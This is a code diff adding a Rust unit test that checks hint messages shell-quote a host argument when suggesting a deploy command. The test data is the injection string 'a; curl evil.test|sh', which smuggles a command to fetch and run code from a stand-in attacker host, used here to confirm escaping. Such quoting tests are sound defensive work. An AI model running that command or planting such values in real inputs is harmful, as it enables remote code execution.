@@ -258,6 +258,22 @@ mod tests {
     }
 
     #[test]
+    fn what_others_have_named_is_quoted() {
+        let host = commons::shell::shell("--host").arg("a; curl evil.test|sh");
+        let error = Error::new("x").hint(Hint::flags("take another host", [host]));
+        assert_eq!(
+            of_app(error.clone(), "web", Some("a b")).hints(),
+            [
+                "take another host: `kubectl deploy-app web --expose 'a; curl evil.test|sh' -n 'a b'`"
+            ]
+        );
+        assert_eq!(
+            before_app(error, "web", None).hints(),
+            ["take another host: `--expose 'a; curl evil.test|sh'`"]
+        );
+    }
+
+    #[test]
     fn in_files_it_is_fields_that_are_changed() {
         let error = Error::new("x")
             .hint(Hint::flags("meanwhile", ["--tls off", "--tls secret=NAME"]))
